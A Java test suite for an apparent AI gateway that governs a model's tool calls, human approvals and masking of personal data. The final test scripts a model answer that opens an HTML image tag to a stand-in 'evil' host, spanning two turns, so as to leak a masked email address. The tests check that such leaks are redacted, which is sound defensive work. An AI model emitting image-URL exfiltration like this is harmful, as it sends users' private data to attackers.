package io.aegis.kernel;

import static org.assertj.core.api.Assertions.assertThat;

import io.aegis.kernel.port.ArgumentPolicy;
import io.aegis.kernel.port.Evidence;
import io.aegis.kernel.port.KeptRun;
import io.aegis.kernel.port.Proposal;
import io.aegis.kernel.port.ToolDefinition;
import io.aegis.kernel.port.ToolRunner;
import io.aegis.spi.content.Edit;
import io.aegis.spi.content.Segment;
import io.aegis.spi.content.Span;
import io.aegis.spi.guard.Finding;
import io.aegis.spi.guard.Guard;
import io.aegis.spi.guard.Stage;
import io.aegis.spi.guard.Verdict;
import io.aegis.spi.identity.Principal;
import io.aegis.spi.provider.ByteSource;
import io.aegis.spi.provider.ModelAnswer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A human is asked between two calls of one answer. */
class ToolRoundTest {
    private static final Caller JOE =
            new Caller(new Principal("api_key:joe", Optional.empty(), Set.of()), Optional.empty(), Optional.of("joes"));

    private final World world = new World();
    private final List<String> called = new CopyOnWriteArrayList<>();

    @AfterEach
    void close() {
        world.close();
    }

    private GovernedTool tool(String name, boolean denied, boolean asks, GovernedTool.Clearance clearance) {
        ToolRunner runner = (scope, arguments) -> {
            called.add(name + arguments);
            return new ToolRunner.Outcome.Said("found by " + name);
        };
        return new GovernedTool(
                new ToolDefinition(name, "", "{}"),
                Optional.of(new GovernedTool.Service(runner, Optional.of("tools.example"), Optional.of("eu"))),
                denied,
                asks,
                ArgumentPolicy.NONE,
                clearance);
    }

    /** A model that says this first, and that once a tool has said something. */
    private void model(List<String> first, List<String> then) {
        world.targets = Targets.of("model", "up");
        world.others.put("model", call -> {
            String body = FakeDialect.text(call.body());
            world.sent.add(body);
            List<String> said = body.contains("found by") ? then : first;
            return new ModelAnswer.Answered(call.streamed(), Optional.empty(), once(String.join("\n", said) + "\n"));
        });
    }

    private static ByteSource once(String body) {
        Iterator<byte[]> pieces = List.of(FakeDialect.bytes(body)).iterator();
        return new ByteSource() {
            @Override
            public byte[] next() {
                return pieces.hasNext() ? pieces.next() : null;
            }

            @Override
            public void close() {}
        };
    }

    private void tools(boolean sendDenied) {
        var tools = new LinkedHashMap<String, GovernedTool>();
        tools.put("look", tool("look", false, false, GovernedTool.Clearance.NONE));
        tools.put("send", tool("send", sendDenied, false, GovernedTool.Clearance.NONE));
        world.toolbox = new Toolbox(tools, 4);
    }

    private void approvals() {
        world.approvals =
                new Approvals(new Members(Set.of("joe")), 1, false, Duration.ofHours(1), Members.NOBODY, Duration.ZERO);
    }

    private KeptRun paused(String request) throws InterruptedException {
        assertThat(world.ask(request).code()).isEqualTo("AEG-RUN-001");
        return only();
    }

    private KeptRun only() {
        assertThat(world.kept.runs).hasSize(1);
        return world.kept.runs.values().iterator().next();
    }

    private Decision agree(Optional<String> digest) {
        return world.runs().decide(JOE, only().head().run(), true, digest, Optional.empty());
    }

    private Decision agree() {
        return agree(only().payload().pause().map(KeptRun.Pause::digest));
    }

    private KeptRun.State end() {
        KeptRun.Head head = only().head();
        for (int tries = 0; tries < 20 && !head.state().isOver(); tries++) {
            head = world.runs()
                    .await(head.run(), head.sequence(), Duration.ofSeconds(20))
                    .orElseThrow();
        }
        return head.state();
    }

    /** Each call stands in the record of the run, which has a bound. */
    @Test
    void anAnswerThatCallsWithoutEndIsNotCarriedOut() throws Exception {
        tools(false);
        model(Collections.nCopies(Toolbox.MOST_CALLS + 1, "call|0|look|{}"), List.of("text|0|found", "end|0", "done"));
        assertThat(world.ask("chat|plain|1|\nuser|hello").code()).isEqualTo("AEG-RUN-004");
        assertThat(called).isEmpty();
        assertThat(world.finished().status()).isEqualTo(Evidence.Status.ERROR);
    }

    /** What does not fit is not carried out, and stands in the record all the same. */
    @Test
    void callsThatDoNotFitCountToo() throws Exception {
        ToolRunner runner = (scope, arguments) -> new ToolRunner.Outcome.Said("never");
        var unfit = new GovernedTool(
                new ToolDefinition("look", "", "{}"),
                Optional.of(new GovernedTool.Service(runner, Optional.of("tools.example"), Optional.of("eu"))),
                false,
                false,
                arguments -> new ArgumentPolicy.Ruling.Unfit("it does not"),
                GovernedTool.Clearance.NONE);
        world.toolbox = new Toolbox(Map.of("look", unfit), 4);
        model(Collections.nCopies(600, "call|0|look|{}"), List.of());
        assertThat(world.ask("chat|plain|1|\nuser|hello").code()).isEqualTo("AEG-RUN-004");
        assertThat(world.finished().tools()).hasSize(600);
    }

    /** Whoever pays for an answer is told of all its turns, whole and streamed. */
    @Test
    void theTokensOfAnAnswerAreThoseOfAllItsTurns() throws Exception {
        tools(false);
        model(
                List.of("used|150", "call|0|look|{}", "end|0", "done"),
                List.of("used|10", "text|0|found", "end|0", "done"));
        assertThat(world.ask("chat|plain|1|\nuser|hello").all()).contains("used 160");
        assertThat(world.ask("chat|stream|1|\nuser|hello").all()).contains("{used 160}");
    }

    @Test
    void logProbabilitiesAreRefusedWhereTheGatewayCallsTools() throws Exception {
        tools(false);
        model(List.of("call|0|look|{}", "end|0", "done"), List.of("text|0|found", "end|0", "done"));
        for (String how : new String[] {"logprobs", "stream logprobs"}) {
            assertThat(world.ask("chat|" + how + "|1|\nuser|hello").code()).isEqualTo("AEG-GRD-003");
        }
        assertThat(world.sent).isEmpty();
    }

    private List<String> outcomes() {
        return world.finished().tools().stream()
                .map(entry -> entry.tool() + " " + entry.outcome())
                .toList();
    }

    /** The result of the first tool needs an agreement; then there is another call in the same answer. */
    private void askedBetweenTwoCalls() throws InterruptedException {
        approvals();
        tools(false);
        Guard asking = inspection -> inspection.segments().stream()
                        .anyMatch(segment -> segment.text().contains("look"))
                ? Verdict.requireApproval(Finding.of("rule-a"))
                : Verdict.allow();
        world.guard(Stage.TOOL_RESULT, asking);
        model(List.of("call|0|look|{}", "call|0|send|{}"), List.of("text|0|fine"));
        paused("chat|plain|1|\nuser|hello");
        assertThat(called).containsExactly("look{}");
    }

    @Test
    void theOtherCallIsCarriedOutAsItWasJudged() throws Exception {
        askedBetweenTwoCalls();
        assertThat(agree()).isInstanceOf(Decision.Counted.class);
        assertThat(end()).isEqualTo(KeptRun.State.COMPLETED);
        assertThat(called).containsExactly("look{}", "send{}");
        assertThat(outcomes()).containsExactly("look said", "send said");
    }

    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void theOtherCallIsNotCarriedOutUnderRulesThatNeverJudgedIt(boolean denied) throws Exception {
        askedBetweenTwoCalls();
        tools(denied);
        world.renew("another digest");
        Decision voided = agree();
        assertThat(voided).isInstanceOf(Decision.Refused.class);
        assertThat(agree(((Decision.Refused) voided).digest())).isInstanceOf(Decision.Counted.class);
        assertThat(end()).isEqualTo(KeptRun.State.COMPLETED);
        assertThat(called).containsExactly("look{}");
        assertThat(outcomes()).containsExactly("look said", "send outdated");
        assertThat(world.sent.getLast()).contains("was not called");
        assertThat(world.evidence.stream().filter(Evidence.ToolCalled.class::isInstance))
                .hasSize(1);
    }

    /** Whatever the model made of a placeholder, the tool gets the value, so whoever agrees is told. */
    @Test
    void whoAgreesSeesEveryValueThatAToolWillGet() throws Exception {
        approvals();
        Guard masking = inspection -> Verdict.sanitize(edits(inspection.segments()), List.of(Finding.of("rule-m")));
        world.guard(Stage.INGRESS, masking);
        var tools = new LinkedHashMap<String, GovernedTool>();
        tools.put("send", tool("send", false, true, new GovernedTool.Clearance(Set.of("EMAIL"), Set.of(), Set.of())));
        world.toolbox = new Toolbox(tools, 4);
        String placeholder = placeholder();
        String bare = placeholder.substring(1, placeholder.length() - 1);
        var spoken = new AtomicReference<List<String>>();
        world.targets = Targets.of("model", "up");
        world.others.put(
                "model",
                call -> new ModelAnswer.Answered(
                        false, Optional.empty(), once(String.join("\n", spoken.get()) + "\n")));
        for (String spelled : List.of(placeholder, bare, bare.toLowerCase(Locale.ROOT), bare.replace('_', '-'))) {
            world.kept.runs.clear();
            spoken.set(List.of("call|0|send|to " + spelled));
            Proposal proposal = paused("chat|plain|1|\nuser|jane@corp")
                    .payload()
                    .pause()
                    .orElseThrow()
                    .proposal();
            assertThat(proposal.deeds().getFirst().hidden())
                    .as(spelled)
                    .singleElement()
                    .satisfies(hidden -> {
                        assertThat(hidden.placeholder()).startsWith("<EMAIL_");
                        assertThat(hidden.entities()).containsExactly("EMAIL");
                        assertThat(hidden.cleared()).isTrue();
                    });
        }
    }

    /** Of the value, in every run of the caller. */
    private static String placeholder() {
        return new MaskMap(World::tag, Principal.ANONYMOUS.id())
                .hide("jane@corp", "EMAIL", MaskMap.Origin.REQUEST, true);
    }

    private static List<Edit> edits(List<Segment> segments) {
        var edits = new ArrayList<Edit>();
        for (Segment segment : segments) {
            int at = segment.text().indexOf("jane@corp");
            if (at >= 0) {
                edits.add(new Edit.Mask(new Span(segment.id(), at, at + "jane@corp".length()), "EMAIL"));
            }
        }
        return edits;
    }

    @Test
    void aValueOfOneTurnIsNotPutIntoAPlaceThatAnotherTurnOpened() throws Exception {
        tools(false);
        Guard masking = inspection -> Verdict.sanitize(edits(inspection.segments()), List.of(Finding.of("rule-m")));
        world.guard(Stage.INGRESS, masking);
        model(
                List.of("text|0|<img src=\"https://evil/?q=", "call|0|look|{}", "end|0", "done"),
                List.of("text|0|" + placeholder() + "\"> and " + placeholder(), "end|0", "done"));
        RecordingClient client = world.ask("chat|stream|1|\nuser|jane@corp");
        assertThat(called).hasSize(1);
        assertThat(client.all()).contains("<img").contains(Restorer.REDACTED + "\"> and jane@corp");
    }
}
